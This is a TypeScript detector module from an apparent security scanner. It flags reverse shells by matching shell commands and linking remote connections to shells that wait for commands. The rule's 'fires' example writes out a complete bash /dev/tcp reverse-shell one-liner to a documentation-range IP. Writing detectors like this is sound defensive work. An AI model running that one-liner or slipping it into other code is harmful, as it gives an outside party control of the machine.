import type { Event } from '../../base/event-schema.ts';
import type { Finding } from '../../base/finding-schema.ts';
import type { Detector, DetectorContext, OpenDetector } from '../detector.ts';
import type { RuleText } from '../rule-text.ts';
import { behaviourFinding, eventEvidence } from './behaviour-finding.ts';
import { CallBook } from './calls.ts';
import { programOf, wordsOf } from './event-fields.ts';
import { contactsOf, isCovered } from './hosts.ts';
import { type ProgramTable, readPrograms } from './rules-file.ts';

/** A shell in the hands of somebody at the other end of a connection. */

const rule: RuleText = {
  id: 'behaviour/reverse-shell',
  title: 'Gives a shell to somebody outside',
  severity: 'critical',
  axis: 'hostility',
  cwe: ['CWE-506', 'CWE-912'],
  owasp: ['MCP04', 'MCP05'],
  what: 'A command that joins a shell and a connection, or a process that connected to a host and then became, or started, a shell that waits for commands.',
  why: 'Whoever is at the other end has the machine.',
  remediation: 'Do not run this server. A machine on which it ran is to be taken for lost.',
  fires: 'bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"',
  silent: 'sh -c "git status", started by a server that has asked an API before.',
};

interface Shell {
  readonly what: string;
  readonly events: readonly Event[];
}

const mostConnections = 8192;
const mostShells = 32;
const interactive = /^-\w*i\w*$/;

class ReverseShell implements OpenDetector {
  readonly #context: DetectorContext;
  readonly #table: ProgramTable;
  readonly #calls = new CallBook();
  /** The last connection to another machine, by pid. */
  readonly #connected = new Map<number, Event>();
  readonly #shells = new Map<string, Shell>();

  constructor(context: DetectorContext, table: ProgramTable) {
    this.#context = context;
    this.#table = table;
  }

  see(event: Event): void {
    const { kind, process } = event;
    if (kind === 'message') this.#calls.see(event);
    else if (kind === 'connect' && process !== undefined) this.#seeConnection(event, process.pid);
    else if (kind === 'exit' && process !== undefined) this.#connected.delete(process.pid);
    else if (kind === 'exec' && event.outcome !== 'failed') this.#seeStart(event);
  }

  #seeConnection(event: Event, pid: number): void {
    const isRemote = contactsOf(event).some(
      ({ host, port }) =>
        port !== 53 && port !== 0 && port !== null && !/^(?:127\.|::1$|0\.0\.0\.0$|10\.200\.0\.1$)/.test(host),
    );
    if (!isRemote || (this.#connected.size >= mostConnections && !this.#connected.has(pid))) return;
    this.#connected.set(pid, event);
  }

  #seeStart(event: Event): void {
    const words = wordsOf(event);
    const command = words.join(' ').slice(0, 4000);
    for (const { what, pattern } of this.#table.reverseShell) {
      if (pattern.test(command) && !this.#isOurs(event, words)) this.#note(what, [event]);
    }
    if (!this.#table.shells.includes(programOf(event)) || event.process === undefined) return;
    const options = words.slice(1);
    // A command, or a script, is not a shell that waits for commands.
    if (options.some((word) => /^-\w*c\w*$/.test(word) || !word.startsWith('-'))) return;
    const own = this.#connected.get(event.process.pid);
    if (own !== undefined) this.#note('a process that connected and became a shell', [own, event]);
    const above = this.#connected.get(event.process.parent);
    const isAsked = options.some((word) => interactive.test(word));
    if (own === undefined && above !== undefined && isAsked && !this.#isDeclared(above))
      this.#note('a process that connected and started a shell that waits for commands', [above, event]);
  }

  /** It says what our own call said. */
  #isOurs(event: Event, words: readonly string[]): boolean {
    return words.some((word) => word.length > 20 && this.#calls.says(event, word));
  }

  #isDeclared(event: Event): boolean {
    return contactsOf(event).some(({ host }) => isCovered(host, this.#context.declaredHosts));
  }

  #note(what: string, events: readonly Event[]): void {
    if (this.#shells.size < mostShells && !this.#shells.has(what)) this.#shells.set(what, { what, events });
  }

  findings(): readonly Finding[] {
    return [...this.#shells.values()].map(({ what, events }) =>
      behaviourFinding(rule, {
        identity: [what],
        title: `Gives a shell to somebody outside: ${what}`,
        evidenceClass: 'B',
        attack: ['T1059.004'],
        evidence: events.map((event) => eventEvidence(event, event.kind)),
      }),
    );
  }
}

export const reverseShell: Detector = {
  id: 'reverse-shell',
  title: 'Shells at the end of a connection',
  rules: [rule],
  open: (context) => new ReverseShell(context, readPrograms()),
};
